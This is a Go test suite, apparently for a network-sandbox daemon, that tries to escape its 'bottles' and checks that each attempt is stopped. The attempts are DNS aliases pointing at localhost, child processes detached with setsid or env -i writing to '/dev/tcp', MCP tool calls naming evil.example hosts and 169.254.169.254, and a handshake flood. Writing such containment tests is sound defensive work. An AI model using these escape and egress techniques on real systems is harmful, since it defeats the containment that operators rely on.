package siege

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"bottled/attack"
)

// TestAttackFromInside has two bottles of one daemon; what is done to each is below.
func TestAttackFromInside(t *testing.T) {
	d := newDaemon(t)
	a, b := d.bottle(t, options{}), d.bottle(t, options{routes: "    - host: " + otherHost + "\n      ports: [443]\n"})
	free := outside(t)
	t.Run("aliases", func(t *testing.T) { aliases(t, b, free) })
	t.Run("children", func(t *testing.T) { children(t, a, free) })
	t.Run("tools", func(t *testing.T) { lookups(t, a, free) })
	t.Run("storm", func(t *testing.T) { busy(t, a, b) })
}

// aliases has an allowed name lead, by aliases, to a service of the host's own.
func aliases(t *testing.T, b *besieged, free *agent) {
	service, err := newCanary("127.0.0.1:443", "")
	must(t, err)
	t.Cleanup(func() { must(t, service.listener.Close()); world.names.Set(otherHost, allowedAddr4) })
	world.names.Set("internal.corp.example", netip.MustParseAddr("127.0.0.1"))
	get := func(who *agent, o order) attack.Probe {
		return func(*testing.T) error {
			before := service.calls.Load()
			_, said := who.do(o)
			if service.calls.Load() > before {
				return nil
			}
			return said
		}
	}
	for name, chain := range map[string][]string{"an alias": {"internal.corp.example"}, "an alias of an alias": {"alias.example", "internal.corp.example"}} {
		from := otherHost
		for _, to := range chain {
			world.names.Alias(from, to)
			from = to
		}
		attack.Stopped(t, "D12", name,
			get(free, order{Op: "dial", Network: "tcp", Addr: otherHost + ":443", Data: "x"}),
			get(b.agent, order{Op: "get", URL: "https://" + otherHost + "/"}))
	}
	world.names.Alias(otherHost, allowedHost) // to an address that may be dialled
	b.must(t, order{Op: "get", URL: "https://" + otherHost + "/"})
}

// children has a program in a bottle start others, in all the ways that there
// are to be rid of a parent, and ask for a bottle with more rights than its own.
func children(t *testing.T, b *besieged, free *agent) {
	for name, script := range map[string]string{
		"in a session of its own": "setsid --wait bash -c '%s'",
		"as an orphan":            "(bash -c '%s' &) ; sleep 0.3",
		"without an environment":  "env -i bash -c '%s'",
	} {
		reaches := func(who *agent, tg target) attack.Probe {
			return who.reaches(order{Op: "sh", Data: fmt.Sprintf(script, "echo canary > /dev/tcp/"+tg.Addr4.String()+"/9000") + "; true"}, tg)
		}
		attack.Stopped(t, "M09", "a child "+name, reaches(free, control), reaches(b.agent, forbidden))
	}
	call := order{Op: "connect-unix", Addr: b.d.config.Socket}
	allowed := place{groups: []uint32{callers}}.start(t)
	attack.Stopped(t, "M09", "a bottle with another table, of the daemon",
		func(*testing.T) error { _, err := allowed.do(call); return err },
		func(*testing.T) error { _, err := b.do(call); return err })
}

// lookups proposes routes to names and addresses that somebody could hear
// of: neither the tools nor the operator's list look them up.
func lookups(t *testing.T, b *besieged, free *agent) {
	var calls []string
	for i, host := range []string{"m15.evil.example", "m15.internal.corp.example", "169.254.169.254", "93.184.216.66"} {
		text, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": map[string]any{
			"name": "egress-proxy-block", "arguments": map[string]any{"host": host, "reason": "look it up"}}})
		must(t, err)
		calls = append(calls, fmt.Sprintf("timeout 1 curl -sS http://_egress-proxy.local/mcp -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d '%s' &", text))
	}
	script := order{Op: "sh", Data: strings.Join(calls, "\n") + "\nwait; true"}
	asked := func(what string) bool { return strings.Contains(strings.Join(world.names.Asked(), " "), what) }
	attack.Stopped(t, "M15", "a tool that looks up what is proposed",
		func(*testing.T) error {
			_, _ = free.do(order{Op: "lookup", Addr: "m15-control.evil.example"})
			if !asked("m15-control") {
				return errors.New("the name server was not asked")
			}
			return nil
		},
		func(t *testing.T) error {
			m := forbidden.mark()
			b.must(t, script)
			list, err := b.d.Proposals(t.Context())
			must(t, err)
			waiting := 0
			for _, p := range list {
				if strings.Contains(fmt.Sprint(p), "m15.") {
					waiting++
				}
			}
			if waiting != 2 {
				t.Errorf("%d proposals wait: %+v", waiting, list)
			}
			if asked("m15.") || forbidden.since(m, attackPatience) == nil {
				return nil
			}
			return fmt.Errorf("%d proposals wait, the name server was asked nothing", waiting)
		})
}

// busy has one bottle keep its enforcer busy with handshakes and with paths that
// are long to read, while another is served.
func busy(t *testing.T, a, b *besieged) {
	at := strings.Fields(a.must(t, order{Op: "lookup", Addr: allowedHost}).Body)[0] + ":443"
	attack.Stopped(t, "X12", "handshakes and long paths",
		func(t *testing.T) error {
			said, err := outside(t).do(order{Op: "storm", Addr: netip.AddrPortFrom(allowedAddr4, 443).String(), N: 2})
			return errors.Join(err, moreThan(said.N, 0))
		},
		func(t *testing.T) error {
			var storming sync.WaitGroup
			var said answerOf
			storming.Go(func() { said, _ = a.do(order{Op: "storm", Addr: at, N: 8}) })
			defer storming.Wait()
			for n := range 3 {
				if _, err := b.do(order{Op: "get", URL: "https://" + otherHost + "/"}); err != nil {
					t.Logf("request %d: %v", n, err)
					return nil
				}
			}
			storming.Wait()
			if said.N == 0 {
				t.Error("there was no storm")
			}
			if _, err := a.do(order{Op: "get", URL: "https://" + allowedHost + "/"}); err != nil {
				t.Errorf("its own enforcer serves no more: %v", err)
			}
			return fmt.Errorf("%d rounds, and the bottle beside it was answered", said.N)
		})
}
